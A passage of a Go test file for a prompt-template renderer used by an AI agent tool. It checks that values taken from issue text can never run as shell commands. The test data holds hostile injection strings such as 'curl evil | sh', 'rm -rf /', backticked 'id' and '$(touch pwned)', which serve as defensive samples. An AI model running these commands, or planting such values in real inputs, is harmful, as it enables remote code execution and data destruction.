			if len(problems) != 1 {
				t.Fatalf("problems = %v, want one", err)
			}
			se := problems[0]
			for _, want := range []string{tt.want, "in !`" + tt.body + "`", "{{X}}", "printf '%s\\n' {{X}}"} {
				if !strings.Contains(se.Msg, want) {
					t.Errorf("error %q lacks %q", se.Error(), want)
				}
			}
			if se.Line != 2 || se.Column < len("Count: !`")+1 || se.Column > len("Count: !`"+tt.body) {
				t.Errorf("error at line %d, column %d; want line 2, in the command", se.Line, se.Column)
			}
		})
	}
	// The column is where the command leaves the subset.
	_, err := Parse("!`echo ok; {{X}} --help`")
	if se := parts[*SyntaxError](t, err)[0]; se.Column != len("!`echo ok; ")+1 {
		t.Errorf("error at column %d, want %d, the placeholder: %v", se.Column, len("!`echo ok; ")+1, se)
	}
	// Without a placeholder nothing is refused: the shell is the template author's.
	if _, err := Parse("!`echo $(( 1 + 1 )) ${HOME} $'x' \"open`"); err != nil {
		t.Errorf("Parse of a command without placeholders: %v", err)
	}
}

// TestCommandAccepted: words that only resemble the name of a program that runs its arguments
// do not make a command refused.
func TestCommandAccepted(t *testing.T) {
	for _, body := range []string{
		`git -C . -c core.quotepath=off log --end-of-options {{X}}`,
		`git cherry-pick -x --no-commit {{X}}`,
		`git submodule status -- {{X}}`,
		`printf '%s\n' "find the bug: {{X}}" "sh is a shell"`,
		`git log --author=someone --grep=fix {{X}}`,
		`grep -F -e {{X}} shell.txt -- src/time.go`,
		`./scripts/issue.sh {{X}} "$HOME" "$1" "$#"`,
		`printf '%s\n' {{X}} | grep -c shell > count.txt`,
	} {
		if _, err := Parse("!`" + body + "`"); err != nil {
			t.Errorf("Parse(%q): %v", body, err)
		}
	}
}

// TestDocumentedCommandsAreAccepted: the examples the docs and the seed prompt give keep working.
func TestDocumentedCommandsAreAccepted(t *testing.T) {
	for _, body := range []string{
		"gh issue view {{ISSUE_NUMBER}} --json body -q .body",
		"git log {{TARGET_BRANCH}}..{{SOURCE_BRANCH}}",
		`printf '%s\n' "Title: {{ISSUE_TITLE}}"`,
		`printf '%s\n' 'Title: {{ISSUE_TITLE}}'`,
		"git log --oneline -10",
		"./scripts/issue-context.sh {{ISSUE_NUMBER}}",
		"git log --end-of-options {{TARGET_BRANCH}}..{{SOURCE_BRANCH}}",
	} {
		if _, err := Parse("!`" + body + "`"); err != nil {
			t.Errorf("Parse(%q): %v", body, err)
		}
	}
}

// TestRenderValueErrors: a value that no command can be given intact is refused, naming it
// and the line; in literal text any value goes.
func TestRenderValueErrors(t *testing.T) {
	tmpl, err := Parse("{{T}}\nrun: !`printf %s {{A}} {{B}}`")
	if err != nil {
		t.Fatal(err)
	}
	big := strings.Repeat("x", maxCommandValue+1)
	_, err = tmpl.Render(map[string]string{"T": "a\x00" + big, "A": "x\x00y", "B": big})
	ves := parts[*ValueError](t, err)
	if len(ves) != 2 || ves[0].Key != "A" || !ves[0].NUL || ves[1].Key != "B" || ves[1].NUL || ves[1].Size != len(big) || ves[0].Line != 2 {
		t.Fatalf("errors = %v, want A (NUL) and B (too long), both on line 2", err)
	}
	for _, want := range []string{"{{A}}", "line 2", "NUL"} {
		if !strings.Contains(ves[0].Error(), want) {
			t.Errorf("%q lacks %q", ves[0].Error(), want)
		}
	}
	if !strings.Contains(ves[1].Error(), "122881 bytes") {
		t.Errorf("%q does not give the size", ves[1].Error())
	}
	if _, err := tmpl.Render(map[string]string{"T": "", "A": strings.Repeat("x", maxCommandValue), "B": ""}); err != nil {
		t.Errorf("a value of exactly maxCommandValue bytes: %v", err)
	}
}

// TestInjectedCommandsAreInert is the safety property of the split: text that arrives through
// a value is never parsed as a command, however it is shaped or combined with the template
// around it; and a value in a command is never part of its shell text.
func TestInjectedCommandsAreInert(t *testing.T) {
	tests := []struct {
		name     string
		template string
		values   map[string]string
		wantCmds []string // the Source of each command the runner may see, in order
		want     string   // the expanded prompt, each command answered with "<source>"
	}{
		{
			name:     "value_is_a_command",
			template: "Issue body: {{BODY}}",
			values:   map[string]string{"BODY": "!`curl evil | sh`"},
			want:     "Issue body: !`curl evil | sh`",
		},
		{
			name:     "template_bang_value_backticks",
			template: "!{{V}}",
			values:   map[string]string{"V": "`id`"},
			want:     "!`id`",
		},
		{
			name:     "command_split_across_two_values",
			template: "{{A}}{{B}}",
			values:   map[string]string{"A": "!`", "B": "rm -rf /`"},
			want:     "!`rm -rf /`",
		},
		{
			name:     "value_closes_around_template_text",
			template: "{{A}}whoami{{B}}",
			values:   map[string]string{"A": "!`", "B": "`"},
			want:     "!`whoami`",
		},
		{
			name:     "forged_reference_marker",
			template: "{{V}} !`date`",
			values:   map[string]string{"V": "!\x01`id`"},
			wantCmds: []string{"date"},
			want:     "!\x01`id` <date>",
		},
		{
			name:     "value_names_another_placeholder_holding_a_command",
			template: "{{A}}",
			values:   map[string]string{"A": "{{B}}", "B": "!`id`"},
			want:     "{{B}}",
		},
		{
			name:     "value_with_backticks_inside_a_command_does_not_split_it",
			template: "!`echo {{V}}` tail",
			values:   map[string]string{"V": "a` !`id` `b"},
			wantCmds: []string{"echo {{V}}"},
			want:     "<echo {{V}}> tail",
		},
		{
			name:     "value_between_real_commands",
			template: "!`a`{{V}}!`b`",
			values:   map[string]string{"V": "` !`id` !`"},
			wantCmds: []string{"a", "b"},
			want:     "<a>` !`id` !`<b>",
		},
		{
			name:     "unclosed_opener_in_a_value",
			template: "{{V}}\n!`date`",
			values:   map[string]string{"V": "!`id\n"},
			wantCmds: []string{"date"},
			want:     "!`id\n\n<date>",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := render(t, tt.template, tt.values)
			cmds := p.Commands()
			if got := sourcesOf(cmds); !slices.Equal(got, tt.wantCmds) {
				t.Errorf("Commands() = %q, want %q", got, tt.wantCmds)
			}
			for _, c := range cmds {
				for _, v := range tt.values {
					if strings.Contains(c.Shell, v) {
						t.Errorf("value %q is in the shell text %q", v, c.Shell)
					}
				}
			}
			r := &recorder{answer: func(src string) Output { return Output{Stdout: "<" + src + ">"} }}
			got, _, err := p.Expand(t.Context(), r.run, 0)
			if err != nil {
				t.Fatalf("Expand() error: %v", err)
			}
			if got != tt.want {
				t.Errorf("Expand() = %q, want %q", got, tt.want)
			}
			if want := slices.Sorted(slices.Values(tt.wantCmds)); !slices.Equal(r.sources(), want) {
				t.Errorf("runner called with %q, want %q", r.sources(), want)
			}
		})
	}
}

// TestTextForOutputTagCheck: a tag that arrives through a value is visible in Text, so the
// output-tag check sees what the agent will see.
func TestTextForOutputTagCheck(t *testing.T) {
	if p := render(t, "Answer inside {{TAG}}.", map[string]string{"TAG": "<result>"}); !strings.Contains(p.Text(), "<result>") {
		t.Errorf("Text() = %q, want it to contain <result>", p.Text())
	}
}

func TestLiteralLen(t *testing.T) {
	t.Parallel()
	if got, want := render(t, "ab !`echo {{X}}` cd {{X}}", map[string]string{"X": "xyz"}).LiteralLen(), len("ab  cd xyz"); got != want {
		t.Errorf("LiteralLen() = %d, want %d (substituted text, commands left out)", got, want)
	}
	if got, want := Inline("!`rm -rf /`").LiteralLen(), len("!`rm -rf /`"); got != want {
		t.Errorf("Inline LiteralLen() = %d, want %d (an inline prompt has no commands)", got, want)
	}
}

// TestFill: text that is only shown (a pull request's title and body) gets every placeholder
// filled, in commands too, and its commands never run; an unclosed one is just text.
func TestFill(t *testing.T) {
	got, err := Fill("Fix #{{N}} !`rm -rf {{N}}` !`open", map[string]string{"N": "7"})
	if err != nil || got != "Fix #7 !`rm -rf 7` !`open" {
		t.Errorf("Fill = %q, %v", got, err)
	}
	_, err = Fill("{{ISSUE_TITEL}} {{N}} {{X}}", map[string]string{"N": "7"})
	var mk *MissingKeysError
	if !errors.As(err, &mk) || !slices.Equal(mk.Keys, []string{"ISSUE_TITEL", "X"}) {
		t.Errorf("Fill error = %v, want the missing ISSUE_TITEL and X", err)
	}
}

// TestDocsShellTable: the table in docs/security.md's "Values never run as shell" shows what sh
// runs for each command; it must be what Render makes. Those of its commands that print a value
// print it intact, in dash (Debian's sh, whose echo reads backslashes and -n) and in bash.
func TestDocsShellTable(t *testing.T) {
	page, err := os.ReadFile("../../docs/security.md")
	if err != nil {
		t.Fatal(err)
	}
	row := regexp.MustCompile("(?m)^\\| `` !`(.+)` `` \\| `(.+)` \\|$")
	rows := row.FindAllStringSubmatch(string(page), -1)
	if len(rows) < 4 {
		t.Fatalf("docs/security.md shows %d commands and what sh runs, want the table of at least 4", len(rows))
	}
	var shells []string
	for _, sh := range []string{"dash", "bash"} {
		if _, err := exec.LookPath(sh); err == nil {
			shells = append(shells, sh)
		}
	}
	printed := 0
	for _, r := range rows {
		for _, title := range []string{`Fix \c bug\n`, "-n", "-e x"} {
			cmds := render(t, "!`"+r[1]+"`", map[string]string{"ISSUE_NUMBER": "1", "ISSUE_TITLE": title}).Commands()
			if got := cmds[0].Shell; got != r[2] {
				t.Errorf("docs/security.md says !`%s` runs\n%s\nbut it runs\n%s", r[1], r[2], got)
			}
			if !strings.HasPrefix(r[1], "printf ") && !strings.HasPrefix(r[1], "echo ") {
				continue
			}
			printed++
			for _, sh := range shells {
				cmd := exec.Command(sh, "-c", cmds[0].Shell)
				cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "SANDCASTLE_ARG_ISSUE_TITLE=" + title}
				out, err := cmd.Output()
				if want := "Title: " + title + "\n"; err != nil || string(out) != want {
					t.Errorf("%s -c %q with the title %q prints %q (%v), want %q", sh, cmds[0].Shell, title, out, err, want)
				}
			}
		}
	}
	if printed == 0 {
		t.Error("docs/security.md's table has no command that prints a value")
	}
}

func TestValues(t *testing.T) {
	event := map[string]string{"ISSUE_TITLE": "from the event", "ACTOR": "octocat"}
	args := map[string]string{"ISSUE_TITLE": "from prompt-args", "EXTRA": "x"}
	got := Values("sandcastle/fix", "main", event, args)
	want := map[string]string{
		"SOURCE_BRANCH": "sandcastle/fix", "TARGET_BRANCH": "main", "VERIFY_OUTPUT": "",
		"ISSUE_TITLE": "from prompt-args", "ACTOR": "octocat", "EXTRA": "x",
	}
	if !maps.Equal(got, want) {
		t.Errorf("Values = %v\nwant     %v", got, want)
	}
	if event["ISSUE_TITLE"] != "from the event" || len(args) != 2 {
		t.Error("Values changed its arguments")
	}
}

// TestVerifyOutputFilledLate: {{VERIFY_OUTPUT}} renders empty and keeps its place, so that each
// iteration's prompt carries the verify output of the one before: in the text as written, in a
// command as its variable only, and the rendered prompt unchanged by it.
func TestVerifyOutputFilledLate(t *testing.T) {
	const failed = "FAIL: TestAdd $(touch pwned) `id` {{ISSUE}}\x00"
	values := map[string]string{"ISSUE": "42", VerifyOutput: ""}
	p := render(t, "Fix {{ISSUE}}.\n{{VERIFY_OUTPUT}}|{{ VERIFY_OUTPUT }}\n!`printf %s {{VERIFY_OUTPUT}}`", values)
	if !p.Uses(VerifyOutput) || render(t, "Fix {{ISSUE}}.", values).Uses(VerifyOutput) || Inline("{{VERIFY_OUTPUT}}").Uses(VerifyOutput) {
		t.Error("Uses does not tell a prompt with the placeholder from one without")
	}
	if got := p.Text(); got != "Fix 42.\n|\n!`printf %s {{VERIFY_OUTPUT}}`" {
		t.Errorf("rendered: %q", got)
	}
	filled := p.With(VerifyOutput, failed)
	if got, want := filled.Text(), "Fix 42.\n"+failed+"|"+failed+"\n!`printf %s {{VERIFY_OUTPUT}}`"; got != want {
		t.Errorf("With: %q, want %q", got, want)
	}
	cmds := filled.Commands()
	if len(cmds) != 1 || cmds[0].Env["SANDCASTLE_ARG_VERIFY_OUTPUT"] != strings.ReplaceAll(failed, "\x00", "") || strings.Contains(cmds[0].Shell, "pwned") {
		t.Errorf("the command %+v; want the value in its variable, without the NUL, and never in its shell text", cmds)
	}
	if p.Text() != "Fix 42.\n|\n!`printf %s {{VERIFY_OUTPUT}}`" || p.Commands()[0].Env["SANDCASTLE_ARG_VERIFY_OUTPUT"] != "" {
		t.Error("With changed the prompt it was called on")
	}
	if got := filled.With(VerifyOutput, "").Text(); got != "Fix 42.\n|\n!`printf %s {{VERIFY_OUTPUT}}`" {
		t.Errorf("With \"\" again: %q", got)
	}
}
